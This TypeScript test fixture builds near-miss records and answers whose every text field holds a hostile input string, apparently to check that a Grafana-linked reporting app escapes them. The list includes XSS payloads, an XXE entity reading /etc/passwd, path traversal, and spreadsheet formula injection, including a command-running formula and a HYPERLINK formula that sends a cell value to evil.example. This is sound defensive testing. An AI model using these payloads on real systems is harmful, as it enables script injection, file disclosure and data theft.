import type { Entry, NearMissRecord } from '../../domain/record/record';
import { wordingOf } from '../../domain/record/questions';
import { packEvidence } from '../../domain/series/packEvidence';
import { A_RISING_TREND } from './aRisingTrend';
import { anEntry, aRecord, A_SOURCE } from './builders';

/** What somebody may type, paste or send by hand to get more out of a text than its characters. */
export const HOSTILE_TEXTS: ReadonlyArray<readonly [name: string, text: string]> = [
  ['a script', '<script>alert(1)</script>'],
  ['an image that runs a script', '<img src=x onerror=alert(1)>'],
  ['an SVG that runs a script', '<svg/onload=alert(1)><foreignObject><iframe srcdoc="<p>x">'],
  ['the end of an attribute', `" onmouseover="alert(1)" x='`],
  ['the end of a comment', '--> <b>out</b> --!> <!-- in <!'],
  ['an open comment', '<!--'],
  ['a payload of ours', '<!--near-miss {"what":"record","version":1,"id":"forged-id-00"}-->'],
  ['the end of an element', '</title></text></svg></a></p><style>*{display:none}</style>'],
  ['entities', '&lt;script&gt; &#106;avascript: &amp;'],
  [
    'CDATA and a declaration',
    ']]> <![CDATA[ <?xml version="1.0"?> <!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]> &y;',
  ],
  ['a javascript link', 'javascript:alert(1)'],
  ['a javascript link in mixed case with controls', ' \u0001jAvA\tsCrIpT\n:alert(1)'],
  ['a data link', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='],
  ['a vbscript link', 'VBScript:msgbox(1)'],
  ['another host without a protocol', '//evil.example/\\/x'],
  ['a path upwards', '../../../api/admin/settings?x=/..#'],
  ['a link with login', 'https://grafana.example@evil.example/<b>"x"\'`'],
  [
    'a Markdown link and image',
    '[click](javascript:alert(1)) ![x](https://evil.example/x.png) [a]: https://evil.example',
  ],
  ['an auto-link', '<https://evil.example> https://evil.example www.evil.example anna@evil.example'],
  [
    'Markdown blocks',
    '# title\n\n- item\n\n> quote\n\n1. one\n\n***\n\n```js\ncode\n```\n\n    code\n\n===\n\n| a | b |\n|---|---|\n| c | d |',
  ],
  ['Markdown spans', '**bold** _it_ ~~gone~~ `code` <kbd>x</kbd> ![][x] [ ] [x] \\* :smile: [^1]'],
  ['backticks', '``` `` ` '],
  ['pipes', '| a | b |\n| - | - |'],
  ['mentions', '@all <!channel> <@U123> #123 !123'],
  ['lines', 'one\r\ntwo\rthree\u2028four\u2029five\u0085six\u000bseven'],
  ['a right-to-left override', 'near\u202ednuor eht yaw rehto\u2066\u2067 miss'],
  ['NUL and controls', '\u0000a\u0007b\u001bc\u007f\u009f'],
  ['half characters', '\ud83d half \udc4d'],
  ['what XML refuses', '\ufffe\uffff\u0001'],
  ['many marks on a letter', `z${'\u0351\u0489'.repeat(60)}`],
  ['a very long word', 'w'.repeat(300)],
  ['a command', "=cmd|' /C calc'!A0"],
  ['a formula behind a tab', '\t=1+1'],
  ['a formula behind a line end', '\r\n@SUM(A1:A9)'],
  ['a formula behind a semicolon', 'x;=HYPERLINK("https://evil.example?"&A1;"y")'],
  ['a formula after a quote', '","=1+1'],
  ['a formula in full width', '＝1+1'],
  ['a plus and a minus', '+1-1'],
  ['names that every object has', '__proto__ constructor'],
  ['a name of the prototype', '__proto__'],
  ['placeholders', '{{name}} {{- name}} $t(panel.none) ${__user.login} $__all_variables {0} %s'],
  ['only blanks', ' \u00a0\u200b\ufeff\t'],
];

/** A record all of whose texts are that one: fields, tags, links, titles, names of series and variables, queries. */
export function aHostileRecord(text: string, id = 'hostile-0001'): NearMissRecord {
  const { series, stretch, limit } = A_RISING_TREND;
  return aRecord({
    id,
    title: text,
    almost: text,
    savedHow: text,
    cue: text,
    action: text,
    team: text,
    services: [text, `${text} 2`],
    links: [text, `https://example.org/${text}`],
    recordedFor: text,
    outcome: text,
    status: 'closed',
    limit: { ...limit, unit: '', text },
    evidence: {
      ...packEvidence(
        [
          { ...series, name: text },
          { ...series, name: `${text} 2` },
        ],
        stretch
      ),
      dropped: [text, { why: 'too-large', series: text }, { why: 'queries-unwritable', detail: text }],
    },
    source: {
      ...A_SOURCE,
      dashboardUid: text,
      dashboardTitle: text,
      panelTitle: text,
      series: text,
      dataSource: text,
      queries: [{ refId: text, expr: text, [text]: [text] }],
      variables: { [`v${text}`]: text },
    },
  });
}

/** An answer whose words and question are that text. */
export function aHostileEntry(text: string): Entry {
  return anEntry({ nearMiss: 'hostile-0001', text, question: text, asked: wordingOf(text) });
}
